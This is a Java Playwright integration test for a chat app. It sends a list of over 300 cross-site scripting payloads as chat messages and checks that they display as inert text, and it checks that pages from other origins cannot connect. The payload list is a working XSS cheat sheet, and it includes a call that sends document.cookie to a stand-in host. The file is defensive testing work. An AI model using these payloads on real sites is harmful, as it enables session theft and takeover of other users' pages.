package chat.snug.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import chat.snug.browser.Person.Screen;
import chat.snug.testing.ServerProcess;
import chat.snug.testing.TestClient;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * What people write to take over the page of others (A6), and pages that use it from outside (A8).
 */
@Tag("browser")
final class HostilePagesIT {
  private static final String[] CALLS = {
    "alert(1)", "window.__hit=1", "top.__hit=1", "fetch('//example.org/'+document.cookie)"
  };
  private static final String[] SHAPES = {
    "<script>%s</script>",
    "<script src=data:text/javascript,%s></script>",
    "<img src=x onerror=%s>",
    "<img src=x onerror=\"%s\">",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:%s\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><img src=x onerror=%s></mtext></math>",
    "<iframe src=\"javascript:%s\"></iframe>",
    "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
    "<body onload=%s>",
    "<details open ontoggle=%s>",
    "<input autofocus onfocus=%s>",
    "<select autofocus onfocus=%s>",
    "<textarea autofocus onfocus=%s>",
    "<video><source onerror=%s></video>",
    "<audio src=x onerror=%s>",
    "<marquee onstart=%s>",
    "<object data=\"javascript:%s\">",
    "<embed src=\"javascript:%s\">",
    "<a href=\"javascript:%s\">click</a>",
    "<a href=\"jAvAsCrIpT:%s\">click</a>",
    "<a href=\"java\tscript:%s\">click</a>",
    "<form action=\"javascript:%s\"><button autofocus>x</button></form>",
    "<button formaction=\"javascript:%s\">x</button>",
    "<isindex action=\"javascript:%s\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
    "<link rel=stylesheet href=\"javascript:%s\">",
    "<link rel=import href=\"data:text/html,<script>%s</script>\">",
    "<style>@import 'javascript:%s';</style>",
    "<style>*{background:url('javascript:%s')}</style>",
    "<div style=\"background:url(javascript:%s)\">",
    "<div style=\"width:expression(%s)\">",
    "<base href=\"javascript:%s//\">",
    "<template><script>%s</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
    "<title><img src=x onerror=%s></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=%s>\">",
    "<!--><img src=x onerror=%s>-->",
    "<![CDATA[><img src=x onerror=%s>]]>",
    "<?xml version=\"1.0\"?><script>%s</script>",
    "\"><script>%s</script>",
    "'><script>%s</script>",
    "</textarea><script>%s</script>",
    "</title><script>%s</script>",
    "</script><script>%s</script>",
    "</article><img src=x onerror=%s>",
    "${%s}",
    "{{%s}}",
    "{{constructor.constructor('%s')()}}",
    "`-%s-`",
    "';%s;//",
    "\";%s;//",
    "javascript:%s",
    "javascript://%%0a%s",
    "data:text/html,<script>%s</script>",
    "[x](javascript:%s)",
    "![x](x onerror=%s)",
    "<https://example.org/\"onmouseover=%s>",
    "http://example.org/\"onmouseover=\"%s",
    "http://javascript:%s@example.org/",
    "<a href=&#106;avascript:%s>x</a>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A%s>",
    "%%3Cscript%%3E%s%%3C/script%%3E",
    "\\u003cscript\\u003e%s\\u003c/script\\u003e",
    "\u2028<script>%s</script>",
    "\u202E<script>%s</script>",
    "<scr\u0000ipt>%s</script>".replace("\u0000", "\u200B"),
    "＜script＞%s＜/script＞",
    "<snug-app onclick=%s>",
    "<slot onslotchange=%s>",
    "<portal src=\"javascript:%s\">",
    "<dialog open onclose=%s>",
    "<a id=__proto__ href=%s>",
    "<form id=location><input name=href value=\"javascript:%s\">",
  };

  /** So many messages are on the page at once. */
  private static final int CHUNK = 40;

  private static Browsers browsers;

  @BeforeAll
  static void openBrowser() {
    browsers = Browsers.start();
  }

  @AfterAll
  static void closeBrowser() {
    browsers.close();
  }

  @Test
  void showsHostileTextAsTextAndRunsNoneOfIt() {
    List<String> corpus = new ArrayList<>();
    for (String shape : SHAPES) {
      for (String call : CALLS) {
        corpus.add(shape.formatted(call));
      }
    }
    assertThat(corpus).hasSizeGreaterThanOrEqualTo(300);
    try (ServerProcess server = start();
        Person ana = new Person(browsers.browser(), Screen.DESKTOP, "dark");
        TestClient hostile = TestClient.connect(server.port())) {
      List<String> hits = new ArrayList<>();
      ana.page()
          .onDialog(dialog -> {
            hits.add(dialog.message());
            dialog.dismiss();
          });
      ana.page()
          .addInitScript(
              "addEventListener('securitypolicyviolation', event => {"
                  + " (window.__reports ??= []).push(event.violatedDirective + ' '"
                  + " + event.blockedURI) })");
      ana.visit(server.url());
      ana.create("Ana");
      JsonNode room =
          hostile.call("room:join", "code", ana.code(), "name", "<b>Bo</b>").get("room");
      String id = room.get("id").asString();
      Map<String, String> said = new HashMap<>();
      Map<String, String> shown = new HashMap<>();
      int named = 0;
      for (int i = 0; i < corpus.size(); i++) {
        String text = corpus.get(i);
        JsonNode answer = hostile.call("message:send", "room", id, "cid", "c" + i, "text", text);
        assertThat(answer.get("ok").asBoolean()).as(text).isTrue();
        said.put(answer.get("id").asString(), text);
        if (text.length() <= 32 && i % 3 == 0) {
          named +=
              hostile.call("member:rename", "room", id, "name", text).get("ok").asBoolean() ? 1 : 0;
        }
        if (i % CHUNK == CHUNK - 1 || i == corpus.size() - 1) {
          hostile.call("message:send", "room", id, "cid", "sofar" + i, "text", "so far " + i);
          ana.sees("so far " + i);
          texts(ana)
              .forEach((message, seen) -> {
                if (said.containsKey(message)) {
                  shown.put(said.get(message), seen);
                }
              });
        }
      }
      hostile.call("message:send", "room", id, "cid", "last", "text", "that was all");

      ana.sees("that was all");
      assertThat(shown)
          .containsOnlyKeys(corpus.toArray(String[]::new))
          .allSatisfy(HostilePagesIT::isShown);
      assertThat(named).isPositive();
      assertThat(hits).isEmpty();
      assertThat(ana.page().evaluate("() => window.__hit ?? null")).isNull();
      assertThat(ana.page().evaluate("() => window.__reports ?? []")).isEqualTo(List.of());
      assertThat(
              ana.page()
                  .evaluate(
                      "() => document.querySelectorAll('.messages :is(img, script, iframe, svg"
                          + " script, object, embed, form, style, link, meta, base)').length"))
          .isEqualTo(0);
      assertThat(ana.faults()).isEmpty();
    }
  }

  @Test
  void letsNoPageOfAnotherOriginConnect() throws IOException {
    HttpServer other =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    other.createContext(
        "/",
        exchange -> {
          byte[] page = "<!doctype html><title>elsewhere</title>".getBytes(UTF_8);
          exchange.getResponseHeaders().add("Content-Type", "text/html");
          exchange.sendResponseHeaders(200, page.length);
          exchange.getResponseBody().write(page);
          exchange.close();
        });
    other.start();
    try (ServerProcess server = start();
        BrowserContext context = browsers.browser().newContext()) {
      Page page = context.newPage();
      page.navigate("http://localhost:" + other.getAddress().getPort() + "/");

      String host = "127.0.0.1:" + server.port();
      assertThat(page.evaluate(tryWebSocket(host))).isEqualTo("refused");
      assertThat(page.evaluate(tryPolling(host))).isEqualTo("refused");
      page.setContent(
          "<iframe sandbox=\"allow-scripts\" srcdoc=\"<script>"
              + "const s = new WebSocket('ws://"
              + host
              + "/socket.io/?EIO=4&amp;transport=websocket');s.onopen = () =>"
              + " parent.postMessage('open', '*');s.onerror = () => parent.postMessage('refused',"
              + " '*');</script>\"></iframe><script>addEventListener('message', event =>"
              + " document.title = event.data)</script>");
      page.waitForFunction("() => document.title !== ''");
      assertThat(page.title()).as("an origin of null").isEqualTo("refused");
      page.navigate("http://localhost:" + other.getAddress().getPort() + "/");
      page.setContent("<iframe src=\"http://" + host + "/\"></iframe>");
      assertThat(page.frames().getLast().content()).doesNotContain("snug-app");
    } finally {
      other.stop(0);
    }
  }

  /** What the messages on the page say, by their ids. */
  @SuppressWarnings("unchecked")
  private static Map<String, String> texts(Person person) {
    return (Map<String, String>)
        person
            .page()
            .evaluate(
                "() => Object.fromEntries([...document.querySelectorAll('.message')].map("
                    + "message => [message.dataset.id, message.textContent]))");
  }

  /** Letter by letter; signs may have become Markdown. */
  private static void isShown(String text, String seen) {
    assertThat(seen.replaceAll("[^A-Za-z0-9]", "")).contains(text.replaceAll("[^A-Za-z0-9]", ""));
  }

  private static String tryWebSocket(String host) {
    return "() => new Promise(done => {"
        + " const socket = new WebSocket('ws://"
        + host
        + "/socket.io/?EIO=4&transport=websocket');"
        + " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })";
  }

  private static String tryPolling(String host) {
    return "() => fetch('http://"
        + host
        + "/socket.io/?EIO=4&transport=polling', { credentials: 'include' })"
        + ".then(answer => answer.status, () => 'refused')";
  }

  private static ServerProcess start() {
    ServerProcess server =
        ServerProcess.start(
            "--host",
            "127.0.0.1",
            "--port",
            "0",
            "--memory",
            "--limits.messages",
            "1000/s:1000",
            "--limits.address-messages",
            "1000/s:1000",
            "--limits.room-messages",
            "1000/s:1000");
    server.url();
    return server;
  }
}
